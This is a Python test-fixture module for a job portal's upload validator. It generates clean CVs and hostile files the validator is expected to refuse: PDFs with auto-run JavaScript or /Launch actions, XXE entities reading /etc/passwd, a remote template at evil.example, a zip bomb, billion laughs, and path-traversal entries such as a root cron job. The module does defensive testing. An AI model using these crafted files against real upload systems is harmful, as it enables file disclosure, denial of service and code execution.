"""Good and hostile files, generated in memory (no binary fixtures)."""

import io
import zipfile

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from kamportal.lib.minipdf import text_pdf

DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCX_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>S\xc3\xb8knad</w:t></w:r></w:p></w:body></w:document>"
)


def good_pdf(text: str = "CV – Ola Nordmann") -> bytes:
    return text_pdf([text, "Erfaring: lager og logistikk"])


def _zip(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, (name, content) in enumerate(entries):
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_STORED if (stored_first and i == 0) else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def good_docx(extra: list[tuple[str, bytes]] = (), content_types: bytes = DOCX_CONTENT_TYPES) -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", DOCX_RELS),
            ("word/document.xml", DOCX_DOCUMENT),
            *extra,
        ]
    )


ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
    b"<text:p>S\xc3\xb8knad</text:p></office:text></office:body></office:document-content>"
)


def good_odt(
    mimetype: bytes = b"application/vnd.oasis.opendocument.text", extra: list[tuple[str, bytes]] = (), order=None
) -> bytes:
    entries = [("mimetype", mimetype), ("content.xml", ODT_CONTENT), ("META-INF/manifest.xml", ODT_MANIFEST), *extra]
    if order == "mimetype-last":
        entries = entries[1:] + entries[:1]
    return _zip(entries, stored_first=order is None)


def _pdf_with(body_objects: list[bytes], catalog_extra: bytes = b"", page_extra: bytes = b"") -> bytes:
    """A one-page PDF with extra objects (numbered from 4) and extra catalog/page entries."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b">>",
        *body_objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref_at = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)


def pdf_with_open_action_javascript() -> bytes:
    return _pdf_with([b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"], catalog_extra=b"/OpenAction 4 0 R ")


def pdf_with_launch_action() -> bytes:
    return _pdf_with([b"<< /S /Launch /F (cmd.exe) >>"], catalog_extra=b"/OpenAction 4 0 R ")


def pdf_with_hex_escaped_javascript() -> bytes:
    return _pdf_with([b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"], catalog_extra=b"/OpenAction 4 0 R ")


def pdf_with_page_additional_action() -> bytes:
    return _pdf_with([b"<< /S /URI /URI (http://example.com) >>"], page_extra=b"/AA << /O 4 0 R >> ")


def pdf_with_javascript_in_object_stream() -> bytes:
    """The action lives compressed inside an object stream, found only through a cross-reference stream."""
    import struct
    import zlib

    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"5 0 "
    objstm = zlib.compress(header + hidden)
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    for number, body in plain.items():
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    offsets[4] = len(out)
    out += (
        f"4 0 obj\n<< /Type /ObjStm /N 1 /First {len(header)} /Filter /FlateDecode /Length {len(objstm)} >>\n".encode()
        + b"stream\n"
        + objstm
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    xref = zlib.compress(b"".join(rows))
    out += (
        f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(xref)} >>\n".encode()
        + b"stream\n"
        + xref
        + b"\nendstream\nendobj\n"
    )
    out += f"startxref\n{offsets[6]}\n%%EOF\n".encode()
    return bytes(out)


def _writer_pdf() -> PdfWriter:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(good_pdf())))
    return writer


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's name tree, the way Acrobat runs it on open."""
    writer = _writer_pdf()
    action = writer._add_object(
        DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
    )
    names = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("a"), action])}
            )
        }
    )
    writer._root_object[NameObject("/Names")] = names
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _writer_pdf()
    writer.add_attachment("payload.exe", b"MZ\x90\x00evil")
    return _write(writer)


def pdf_encrypted() -> bytes:
    writer = _writer_pdf()
    writer.encrypt(user_password="hemmelig", owner_password="hemmelig", algorithm="RC4-128")
    return _write(writer)


def pdf_with_launch_in_annotation() -> bytes:
    writer = _writer_pdf()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
            ),
        }
    )
    writer.add_annotation(0, annotation)
    return _write(writer)


def zip_bomb_docx() -> bytes:
    return good_docx(extra=[("word/media/bomb.xml", b"\0" * (60 * 1024 * 1024))])


def docx_with_too_many_entries() -> bytes:
    return good_docx(extra=[(f"word/parts/p{i}.xml", b"<x/>") for i in range(1001)])


def docx_with_crc_error() -> bytes:
    data = bytearray(good_docx(extra=[("word/stored.xml", b"A" * 400)]))
    # Flip one byte inside the compressed data of the last member without touching the headers.
    position = data.rfind(b"word/stored.xml", 0, data.find(b"PK\x01\x02")) + len("word/stored.xml") + 2
    data[position] ^= 0xFF
    return bytes(data)


REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

MACRO_CONTENT_TYPES = DOCX_CONTENT_TYPES.replace(
    b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
)

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/')</script>CV</body></html>"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 100
OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500


XXE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
DOCTYPE_SYSTEM_DOCUMENT = DOCX_DOCUMENT.replace(
    b"<w:document ", b'<!DOCTYPE w:document SYSTEM "file:///etc/passwd"><w:document ', 1
)
LAUGHS_CONTENT = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
    b"<office:body>&lol2;</office:body></office:document-content>"
)
UTF16_DOCTYPE_RELS = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/">]>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&x;</Relationships>'
).encode("utf-16")


def docx_with_document(document: bytes) -> bytes:
    return _zip(
        [("[Content_Types].xml", DOCX_CONTENT_TYPES), ("_rels/.rels", DOCX_RELS), ("word/document.xml", document)]
    )


def odt_with_content(content: bytes) -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", content),
            ("META-INF/manifest.xml", ODT_MANIFEST),
        ],
        stored_first=True,
    )


def hostile_cases() -> list[tuple[str, str, bytes, str]]:
    """(case id, file name, content, expected refusal reason)."""
    return [
        ("empty", "cv.pdf", b"", "empty"),
        ("exe-renamed-pdf", "cv.pdf", EXE, "unsupported_type"),
        ("png-renamed-pdf", "cv.pdf", PNG, "unsupported_type"),
        ("html-disguised-as-pdf", "cv.pdf", HTML, "unsupported_type"),
        ("svg-disguised-as-pdf", "cv.pdf", SVG, "unsupported_type"),
        ("svg-disguised-as-docx", "cv.docx", SVG, "unsupported_type"),
        ("html-with-pdf-marker-later", "cv.pdf", b"<html>%PDF-1.7</html>", "unsupported_type"),
        ("legacy-doc-renamed-docx", "cv.docx", OLE_DOC, "unsupported_type"),
        ("oversized", "cv.pdf", good_pdf() + b"%" * (10 * 1024 * 1024), "too_large"),
        ("pdf-open-action-javascript", "cv.pdf", pdf_with_open_action_javascript(), "pdf_active_content"),
        ("pdf-launch-action", "cv.pdf", pdf_with_launch_action(), "pdf_active_content"),
        ("pdf-hex-escaped-javascript", "cv.pdf", pdf_with_hex_escaped_javascript(), "pdf_active_content"),
        ("pdf-document-javascript", "cv.pdf", pdf_with_document_javascript(), "pdf_active_content"),
        ("pdf-embedded-file", "cv.pdf", pdf_with_embedded_file(), "pdf_active_content"),
        ("pdf-page-additional-action", "cv.pdf", pdf_with_page_additional_action(), "pdf_active_content"),
        ("pdf-javascript-in-object-stream", "cv.pdf", pdf_with_javascript_in_object_stream(), "pdf_active_content"),
        ("pdf-launch-in-annotation", "cv.pdf", pdf_with_launch_in_annotation(), "pdf_active_content"),
        ("pdf-encrypted", "cv.pdf", pdf_encrypted(), "pdf_encrypted"),
        ("pdf-header-then-html", "cv.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "pdf_unreadable"),
        ("pdf-truncated", "cv.pdf", good_pdf()[:60], "pdf_unreadable"),
        ("zip-bomb-docx", "cv.docx", zip_bomb_docx(), "zip_too_large"),
        ("docx-too-many-entries", "cv.docx", docx_with_too_many_entries(), "zip_too_large"),
        (
            "docx-with-vba-macros",
            "cv.docx",
            good_docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
            "active_content",
        ),
        ("docm-renamed-docx", "cv.docx", good_docx(content_types=MACRO_CONTENT_TYPES), "active_content"),
        ("docx-activex", "cv.docx", good_docx(extra=[("word/activeX/activeX1.xml", b"<ax/>")]), "active_content"),
        (
            "docx-remote-template",
            "cv.docx",
            good_docx(extra=[("word/_rels/settings.xml.rels", REMOTE_TEMPLATE_RELS)]),
            "active_content",
        ),
        (
            "docx-entry-path-traversal",
            "cv.docx",
            good_docx(extra=[("../../../etc/cron.d/evil", b"* * * * * root sh")]),
            "zip_unsafe_path",
        ),
        ("docx-entry-absolute-path", "cv.docx", good_docx(extra=[("/etc/passwd", b"root:x:0:0")]), "zip_unsafe_path"),
        ("docx-crc-error", "cv.docx", docx_with_crc_error(), "zip_unreadable"),
        ("docx-truncated", "cv.docx", good_docx()[:200], "zip_unreadable"),
        ("plain-zip-renamed-docx", "cv.docx", _zip([("readme.txt", b"hei")]), "unsupported_type"),
        (
            "xlsx-renamed-docx",
            "cv.docx",
            _zip([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<w/>")]),
            "zip_not_a_document",
        ),
        ("odt-mimetype-not-first", "cv.odt", good_odt(order="mimetype-last"), "zip_not_a_document"),
        (
            "ods-renamed-odt",
            "cv.odt",
            good_odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
            "zip_not_a_document",
        ),
        (
            "odt-with-basic-macros",
            "cv.odt",
            good_odt(extra=[("Basic/Standard/Module1.xml", b"<macro/>")]),
            "active_content",
        ),
        ("docx-xxe-entity", "cv.docx", docx_with_document(XXE_DOCUMENT), "xml_entities"),
        ("docx-doctype-system", "cv.docx", docx_with_document(DOCTYPE_SYSTEM_DOCUMENT), "xml_entities"),
        (
            "docx-utf16-external-entity-in-rels",
            "cv.docx",
            good_docx(extra=[("word/_rels/document.xml.rels", UTF16_DOCTYPE_RELS)]),
            "xml_entities",
        ),
        ("odt-billion-laughs", "cv.odt", odt_with_content(LAUGHS_CONTENT), "xml_entities"),
        ("docx-malformed-xml", "cv.docx", docx_with_document(b"<w:document><unclosed>"), "zip_not_a_document"),
        ("docx-content-named-pdf", "cv.pdf", good_docx(), "extension_mismatch"),
        ("pdf-content-named-odt", "cv.odt", good_pdf(), "extension_mismatch"),
        ("name-path-traversal", "../../etc/passwd.pdf", good_pdf(), "bad_name"),
        ("name-windows-path-traversal", "..\\..\\Windows\\cv.pdf", good_pdf(), "bad_name"),
        ("name-absolute-path", "/var/www/cv.pdf", good_pdf(), "bad_name"),
        ("name-drive-letter", "C:cv.pdf", good_pdf(), "bad_name"),
        ("name-nul-byte", "cv.pdf\x00.html", good_pdf(), "bad_name"),
        ("name-double-extension-exe", "cv.pdf.exe", good_pdf(), "bad_name"),
        ("name-html-extension", "cv.html", good_pdf(), "bad_name"),
        ("name-hidden-file", ".htaccess.pdf", good_pdf(), "bad_name"),
    ]
